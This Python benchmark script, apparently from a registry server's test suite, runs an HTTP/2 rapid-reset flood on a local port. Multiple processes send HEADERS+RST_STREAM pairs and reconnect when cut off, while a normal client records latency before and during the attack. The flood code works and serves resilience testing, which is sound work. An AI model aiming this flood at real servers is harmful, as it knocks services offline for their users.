#!/usr/bin/env python3
"""HTTP/2 rapid-reset attack against a running server while a normal client
measures its latency (run by h2_rapid_reset.sh; see docs/benchmarks.md).

  h2_rapid_reset.py PORT BLOB_PATH [--pairs N] [--connections C] [--samples S]

Phase 1 (unloaded): the normal client alternates GET /v2/ and GET BLOB_PATH
(HTTP/1.1 keep-alive, one request every 5 ms) S times. Phase 2: C attacker
processes each open an h2c connection and send HEADERS+RST_STREAM pairs as
fast as the socket takes them, reconnecting whenever the server closes it,
until N pairs were sent in all (written into the socket: a closed
connection's unread pairs are counted too) and the normal client, measuring
again meanwhile, has its S samples.
Prints median, p99 and worst per route for both phases and their ratios,
and how many connections the server closed (GOAWAY) during the attack."""

import argparse
import http.client
import multiprocessing
import os
import statistics
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "e2e"))
import h2_frames as h2  # noqa: E402

BATCH = 500  # pairs per sendall


def attacker(port, counter, goaways, lock, stop, niceness, cpus, source):
    os.nice(niceness)
    if cpus:
        os.sched_setaffinity(0, cpus)
    batches = []  # batch i holds stream ids from 1 + 2*BATCH*i, kept for reconnects
    sent = 0
    while True:
        if stop.is_set():
            return
        try:
            sock = h2.connect(port, source=source)
        except OSError:
            time.sleep(0.01)
            continue
        sock.setblocking(True)
        closed = False
        index = 0
        while not closed:
            if stop.is_set():
                break
            if index == len(batches):
                batches.append(h2.reset_pairs(1 + 2 * BATCH * index, BATCH))
            try:
                sock.sendall(batches[index])
                index += 1
                with lock:
                    counter.value += BATCH
                sent += BATCH
                # drain whatever the server wrote (responses, GOAWAY), without blocking
                sock.setblocking(False)
                try:
                    while True:
                        data = sock.recv(1 << 20)
                        if not data:
                            closed = True
                            break
                except BlockingIOError:
                    pass
                sock.setblocking(True)
            except OSError:
                closed = True
        if closed:
            with lock:
                goaways.value += 1
        sock.close()


def measure(port, blob_path, samples):
    lat = {"/v2/": [], "blob": []}
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    for i in range(samples):
        for name, path in (("/v2/", "/v2/"), ("blob", blob_path)):
            start = time.perf_counter()
            conn.request("GET", path)
            r = conn.getresponse()
            r.read()
            lat[name].append((time.perf_counter() - start) * 1000)
            if r.status != 200:
                raise SystemExit(f"{path} answered {r.status}")
        time.sleep(0.005)
    conn.close()
    return lat


def stats(values):
    values = sorted(values)
    return (statistics.median(values), values[min(len(values) - 1, int(len(values) * 0.99))],
            values[-1])


def main():
    p = argparse.ArgumentParser()
    p.add_argument("port", type=int)
    p.add_argument("blob_path")
    p.add_argument("--pairs", type=int, default=600000)
    p.add_argument("--connections", type=int, default=4)
    p.add_argument("--samples", type=int, default=400)
    p.add_argument("--attacker-nice", type=int, default=0,
                   help="niceness of the attackers (on a small machine they compete with "
                        "the server and the normal client for the same cores)")
    p.add_argument("--seconds", type=float, default=10,
                   help="the attack lasts at least this long")
    p.add_argument("--attacker-address", default="127.0.0.2",
                   help="the attackers' source address (the normal client is 127.0.0.1)")
    p.add_argument("--attacker-cpus", default="",
                   help="CPUs the attackers are pinned to, e.g. 1 or 2-3 (empty: any)")
    a = p.parse_args()
    cpus = set()
    for part in filter(None, a.attacker_cpus.split(",")):
        low, _, high = part.partition("-")
        cpus.update(range(int(low), int(high or low) + 1))

    base = measure(a.port, a.blob_path, a.samples)

    counter = multiprocessing.Value("q", 0, lock=False)
    goaways = multiprocessing.Value("q", 0, lock=False)
    lock = multiprocessing.Lock()
    stop = multiprocessing.Event()
    procs = [multiprocessing.Process(target=attacker, args=(a.port, counter, goaways, lock, stop,
                                                                  a.attacker_nice, cpus,
                                                                  a.attacker_address))
             for _ in range(a.connections)]
    start = time.perf_counter()
    for pr in procs:
        pr.start()
    time.sleep(0.2)
    loaded = {"/v2/": [], "blob": []}
    # measure until the attack sent its pairs, lasted --seconds, and the client
    # has its samples
    while (counter.value < a.pairs or len(loaded["blob"]) < a.samples
           or time.perf_counter() - start < a.seconds):
        chunk = measure(a.port, a.blob_path, 20)
        for k in loaded:
            loaded[k] += chunk[k]
    stop.set()
    for pr in procs:
        pr.join()
    elapsed = time.perf_counter() - start

    print(f"attack: {counter.value} HEADERS+RST_STREAM pairs written over {a.connections} connections "
          f"(reconnecting, from {a.attacker_address}, nice {a.attacker_nice}, CPUs {a.attacker_cpus or 'any'}), {elapsed:.1f} s, {counter.value / elapsed:.0f} pairs/s, "
          f"connections closed by the server: {goaways.value}")
    print(f"{'route':6} {'phase':9} {'median':>8} {'p99':>8} {'worst':>8}  (ms, n)")
    for k in ("/v2/", "blob"):
        b, l = stats(base[k]), stats(loaded[k])
        print(f"{k:6} {'unloaded':9} {b[0]:8.2f} {b[1]:8.2f} {b[2]:8.2f}  n={len(base[k])}")
        print(f"{k:6} {'attack':9} {l[0]:8.2f} {l[1]:8.2f} {l[2]:8.2f}  n={len(loaded[k])}")
        print(f"{k:6} {'ratio':9} {l[0] / b[0]:8.2f} {l[1] / b[1]:8.2f} {l[2] / b[2]:8.2f}")


if __name__ == "__main__":
    main()
